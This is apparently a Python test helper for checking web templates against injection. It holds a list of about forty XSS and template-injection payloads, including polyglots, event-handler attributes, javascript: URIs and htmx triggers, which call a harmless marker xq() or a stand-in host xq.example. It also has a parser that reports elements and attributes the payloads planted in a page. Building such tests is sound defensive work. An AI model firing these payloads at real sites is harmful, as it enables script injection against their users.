"""Forty texts that want to be more than text, and how one sees that one of them became it.

Whatever runs calls `xq()`; whatever loads asks xq.example. POLYGLOTS are the three that break out
of most places at once.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

POLYGLOTS = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=xq())//</titLe/</teXtarEa--!><sVg/oNloAd=xq()>",
    "'\"></title></textarea></select><img src=x onerror=xq()><script>xq()</script>",
    'javascript:xq()//" autofocus onfocus=xq() hx-get=/xq hx-trigger=load x=',
)
PAYLOADS = (
    *POLYGLOTS,
    "<script>xq()</script>",
    '"><script>xq()</script>',
    "'><script>xq()</script>",
    "</title><script>xq()</script>",
    "</textarea><script>xq()</script>",
    "</script><script>xq()</script>",
    "<img src=x onerror=xq()>",
    '"><img src=x onerror=xq()>',
    "<svg onload=xq()>",
    "<svg/onload=xq()//",
    "<details open ontoggle=xq()>",
    "<video><source onerror=xq()></video>",
    '<iframe srcdoc="<script>parent.xq()</script>"></iframe>',
    "<iframe src=javascript:parent.xq()></iframe>",
    "<a href=javascript:xq() id=xq>x</a>",
    "javascript:xq()",
    "jAvAsCrIpT&colon;xq()",
    "data:text/html,<script>xq()</script>",
    '" onmouseover="xq()" autofocus onfocus="xq()" x="',
    "' autofocus onfocus='xq()' x='",
    "x autofocus onfocus=xq() x",
    "<input autofocus onfocus=xq()>",
    '<meta http-equiv=refresh content="0;url=//xq.example/">',
    "<base href=//xq.example/>",
    "<link rel=stylesheet href=//xq.example/x.css>",
    "<style>@import '//xq.example/x.css'</style>",
    '<div style="background:url(//xq.example/)">',
    "<form action=//xq.example/><button>xq",
    "<object data=javascript:xq()></object>",
    "<embed src=javascript:xq()>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=xq()>",
    '<noscript><p title="</noscript><img src=x onerror=xq()>">',
    "{{7*7}}${xq()}<%= xq() %>%(xq)s%s{0}",
    '<div hx-get="/xq" hx-trigger="load">',
    '<div hx-on::load="xq()" data-hx-on:load="xq()">',
    "&lt;img src=x onerror=xq()&gt;&#60;script&#62;xq()&#60;/script&#62;",
    "<!--><img src=x onerror=xq()>-->",
)
NEVER = {"iframe", "object", "embed", "base", "math", "video", "style"}
ADDRESSES = {"href", "src", "action", "formaction", "data", "srcdoc", "poster", "xlink:href"}
SCHEMES = ("javascript:", "data:text", "vbscript:", "//xq", "http://xq", "https://xq")


class Grown(HTMLParser):
    """What stands in a page that no template of ours wrote."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._inside = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = [name for name, _ in attrs]
        self._inside = "script" if tag == "script" and "src" not in names else ""
        if tag in NEVER or self._inside or "xq" in tag:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if _is_alive(name, (value or "").strip().lower()):
                self.found.append(f"<{tag} {name}={(value or '')[:60]}>")

    handle_startendtag = handle_starttag


def _is_alive(name: str, value: str) -> bool:
    """An attribute that acts: an event, a style, an htmx address, or a link somewhere bad."""
    if name.startswith("on") or name == "style" or "xq" in name:
        return True
    if name.startswith(("hx-", "data-hx-")):
        # A word of its own: an id of ours may well hold these two letters.
        return name.startswith(("hx-on", "data-hx")) or bool(re.search(r"\bxq\b", value))
    address = "".join(value.split())
    return (name in ADDRESSES and address.startswith(SCHEMES)) or (
        name == "content" and "url=" in address
    )


def grown(page: str) -> list[str]:
    """Elements and attributes that a payload brought into a page."""
    reader = Grown()
    reader.feed(page)
    return reader.found
